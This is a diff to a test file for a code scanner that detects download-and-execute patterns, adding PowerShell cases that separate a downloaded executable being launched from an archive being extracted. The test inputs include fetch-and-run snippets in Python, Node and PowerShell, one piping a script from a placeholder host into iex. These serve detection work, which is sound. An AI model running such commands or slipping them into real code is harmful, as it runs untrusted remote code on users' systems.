@@ -12,6 +12,9 @@ describe("analyzeCode", () => {
     expect(rules("r = requests.get(URL)\ncode = r.text\nexec(code)", "python")).toEqual(["download-execute"]);
     expect(rules("const c = await (await fetch(u)).text();\neval(c);", "node")).toEqual(["download-execute"]);
     expect(rules("irm https://e.invalid/x.ps1 | iex", "powershell")).toEqual(["download-execute"]);
+    const saved = "Invoke-WebRequest -Uri $u -OutFile $exe\nStart-Process $exe";
+    expect(rules(saved, "powershell")).toEqual(["download-execute"]);
+    expect(rules("Invoke-WebRequest -Uri $u -OutFile $zip\nExpand-Archive $zip -DestinationPath out", "powershell")).toEqual([]);
   });
 
   it("scans shell strings and decodes -EncodedCommand", () => {
